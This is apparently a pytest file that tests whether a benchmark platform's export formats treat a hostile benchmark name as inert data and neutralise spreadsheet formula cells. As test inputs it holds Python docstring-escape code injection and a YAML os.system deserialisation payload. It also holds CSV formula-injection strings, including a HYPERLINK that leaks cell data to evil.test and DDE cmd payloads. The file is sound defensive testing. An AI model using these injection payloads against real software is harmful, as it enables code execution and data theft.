"""Exports are run by whoever downloads them: user text reaches them as data only. A hostile benchmark
name (triple quotes closing a docstring, a payload writing a marker file, YAML syntax, newlines,
control and bidi characters) goes through every format; the generated modules are imported, the YAML
and JSON loaded: nothing runs and the name comes back intact. TSV cells that a spreadsheet would run
as formulas are neutralised the OWASP way."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from django.conf import settings

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("HF_DATASETS_OFFLINE", "1")

from agents.export import ExportInfo, ExportItem, python_identifier, spreadsheet_safe, write_inspect  # noqa: E402
from benchmarks import services  # noqa: E402
from benchmarks.models import Benchmark, Sample, VersionExport  # noqa: E402


def hostile_name() -> str:
    """Each line breaks one kind of file the old exporters wrote by pasting the name into a template;
    a payload that runs writes the file "ran" in the importing process's folder. At most 200
    characters: the name column's size, which PostgreSQL enforces."""
    return "\n".join([
        '"""; __import__("os").system("touch ran"); """',
        "''' + __import__('os').system('touch ran') + '''",
        'name: {x: [1, 2',
        '- "y": !!python/object/apply:os.system ["touch ran"]',
        "---",
        "{version} {0} \\ \t \x7f \u202e end"])


def _unzip(path: Path, into: Path) -> Path:
    with zipfile.ZipFile(path) as archive:
        archive.extractall(into)
        top = archive.namelist()[0].split("/")[0]
    return into / top


class _FunctionLoader(yaml.SafeLoader):
    """YAML's safe loader plus lm-eval's `!function` tag, read as a plain reference."""


_FunctionLoader.add_constructor("!function", lambda loader, node: ("function", loader.construct_scalar(node)))


def _front_matter(card: str) -> dict:
    assert card.startswith("---\n")
    return yaml.safe_load(card[4:card.index("\n---\n", 4)])


# Imports the generated Python modules in a fresh interpreter (cwd: a scratch folder) and prints what
# they hold; whatever a module ran on import would have run here.
IMPORT_SCRIPT = """
import importlib.util, json, sys
out = {}
for label, path in (("inspect", sys.argv[1]), ("lmms_eval", sys.argv[2])):
    spec = importlib.util.spec_from_file_location("exported_" + label, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    out[label] = {"name": module.BENCHMARK_NAME, "version": module.BENCHMARK_VERSION,
                  "functions": sorted(n for n in dir(module) if callable(getattr(module, n))
                                      and getattr(getattr(module, n), "__module__", "") == "exported_" + label)}
print(json.dumps(out))
"""


def test_a_hostile_benchmark_name_is_data_in_every_export_format(built_image_benchmark, user_a, tmp_path):
    import datasets

    name = hostile_name()
    assert len(name) <= 200
    version = services.version_freeze(version=built_image_benchmark.version, user=user_a)
    # Names are cleaned when written (common.names); one from before that, or typed in the admin, is
    # not, so the exporters must be safe on their own.
    Benchmark.objects.filter(pk=version.benchmark_id).update(name=name)
    version.refresh_from_db()
    task = python_identifier(version.benchmark.slug, prefix="benchmark") + "_v1"

    folders = {}
    for fmt in VersionExport.Format.values:
        export = services.version_export(version=version, fmt=fmt)
        folders[fmt] = _unzip(Path(settings.MEDIA_ROOT) / export.file, tmp_path / fmt)
    assert sorted(folders) == ["hf", "inspect", "jsonl", "lm_eval", "lmms_eval", "vlmevalkit"]

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    done = subprocess.run([sys.executable, "-c", IMPORT_SCRIPT, str(folders["inspect"] / "task.py"),
                           str(folders["lmms_eval"] / "utils.py")],
                          cwd=scratch, capture_output=True, text=True, timeout=300)
    assert not (scratch / "ran").exists(), "importing the exported modules ran the code in the benchmark's name"
    assert done.returncode == 0, done.stderr[-2000:]
    modules = json.loads(done.stdout.strip().splitlines()[-1])
    assert modules == {
        "inspect": {"name": name, "version": 1, "functions": [python_identifier(version.benchmark.slug)]},
        "lmms_eval": {"name": name, "version": 1,
                      "functions": ["doc_to_target", "doc_to_text", "doc_to_visual", "process_results"]}}

    lm_eval = yaml.load((folders["lm_eval"] / f"{task}.yaml").read_text(encoding="utf-8"),
                        Loader=_FunctionLoader)  # noqa: S506 - safe loader plus one tag
    lmms = yaml.load((folders["lmms_eval"] / f"{task}.yaml").read_text(encoding="utf-8"),
                     Loader=_FunctionLoader)  # noqa: S506
    assert lm_eval["task"] == lmms["task"] == task
    assert lm_eval["metadata"] == lmms["metadata"] == {"version": 1.0, "benchmark": name, "benchmark_version": 1,
                                                       "checksum": version.checksum}
    assert lmms["doc_to_visual"] == ("function", "utils.doc_to_visual")
    assert _front_matter((folders["hf"] / "README.md").read_text(encoding="utf-8"))["pretty_name"] == name
    assert _front_matter((folders["lmms_eval"] / "DATASET_CARD.md").read_text(encoding="utf-8"))["pretty_name"] == name
    assert json.loads((folders["jsonl"] / "info.json").read_text(encoding="utf-8"))["name"] == name
    assert (folders["vlmevalkit"] / f"{task}.tsv").is_file()
    # The Hugging Face loader parses the card's YAML too: the name does not break it.
    loaded = datasets.load_dataset(str(folders["hf"]), split="test", cache_dir=str(tmp_path / "cache"))
    assert len(loaded) == 6

    assert sorted(p.name for p in scratch.iterdir()) == []  # importing them wrote nothing either


FORMULAS = {
    "question": '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "context": "\tcmd|' /C calc'!A0",
    "options": ["-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "-3", "+1.5"],
}


def test_vlmevalkit_tsv_neutralises_formula_cells_and_keeps_numbers(built_image_benchmark, user_a, tmp_path):
    import pandas

    version = built_image_benchmark.version
    sample = Sample.objects.filter(version=version, status="ok").order_by("item_key").first()
    options = FORMULAS["options"][:len(sample.options)]
    assert len(options) == len(sample.options) == 4
    Sample.objects.filter(pk=sample.pk).update(question=FORMULAS["question"], context=FORMULAS["context"],
                                               options=options)
    second = Sample.objects.filter(version=version, status="ok").order_by("item_key")[1]
    Sample.objects.filter(pk=second.pk).update(question="\r=1+1 ?", context="")
    version = services.version_freeze(version=version, user=user_a)

    export = services.version_export(version=version, fmt="vlmevalkit")
    with zipfile.ZipFile(Path(settings.MEDIA_ROOT) / export.file) as archive:
        [tsv] = [n for n in archive.namelist() if n.endswith(".tsv")]
        text = archive.read(tsv).decode("utf-8")
    rows = {row[2]: row for row in csv.reader(io.StringIO(text, newline=""), delimiter="\t")}
    row = rows["'" + FORMULAS["question"]]
    assert row[3:8] == ["'\tcmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1,1)", "-3", "+1.5"]
    assert rows["'\r=1+1 ?"][3] == ""
    # No cell of the file begins with a formula trigger unless it is a plain number.
    for cells in rows.values():
        for cell in cells[2:]:
            assert not cell.startswith(("=", "@", "\t", "\r")) and (
                not cell.startswith(("+", "-")) or cell in ("-3", "+1.5")), cell

    # VLMEvalKit reads the TSV with pandas: every item is still there, with its image and answer.
    table = pandas.read_csv(io.StringIO(text), sep="\t", keep_default_na=False, dtype=str)
    assert len(table) == 6
    loaded = table.set_index("question").loc["'" + FORMULAS["question"]]
    assert (loaded["hint"], loaded["A"], loaded["C"], loaded["answer"]) == (
        "'\tcmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "-3", "ABCD"[sample.answer_index])
    assert loaded["image"] != "" and "'" not in loaded["image"]


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-A1", "'-A1"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-3", "-3"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"), ("- 3", "'- 3"), ("1-2", "1-2"),
    ("plain", "plain"), ("", ""), (7, 7),
])
def test_spreadsheet_safe_prefixes_formula_triggers_only(cell, safe):
    assert spreadsheet_safe(cell) == safe


@pytest.mark.parametrize("slug, identifier", [
    ("art-vqa", "art_vqa"), ("2024-vision", "task_2024_vision"), ("import", "task_import"), ("", "task"),
    ("class-", "task_class"), ("a--b", "a_b"),
])
def test_python_identifier_always_compiles(slug, identifier):
    assert python_identifier(slug) == identifier
    compile(f"def {identifier}():\n    pass\n", "<generated>", "exec")


def test_the_inspect_task_of_a_slug_beginning_with_a_digit_compiles(tmp_path):
    item = ExportItem(id="a", subtask="s", question="Q?", options=["x", "y"], answer="x", answer_index=0,
                      answer_type="choice")
    write_inspect([item], ExportInfo(name="2024 import", slug="2024-import", version=3), tmp_path)
    namespace: dict = {"__file__": str(tmp_path / "task.py"), "__name__": "exported_task"}
    exec(compile((tmp_path / "task.py").read_text(encoding="utf-8"), "task.py", "exec"), namespace)  # noqa: S102
    assert (namespace["BENCHMARK_NAME"], namespace["BENCHMARK_VERSION"]) == ("2024 import", 3)
    assert callable(namespace["task_2024_import"])
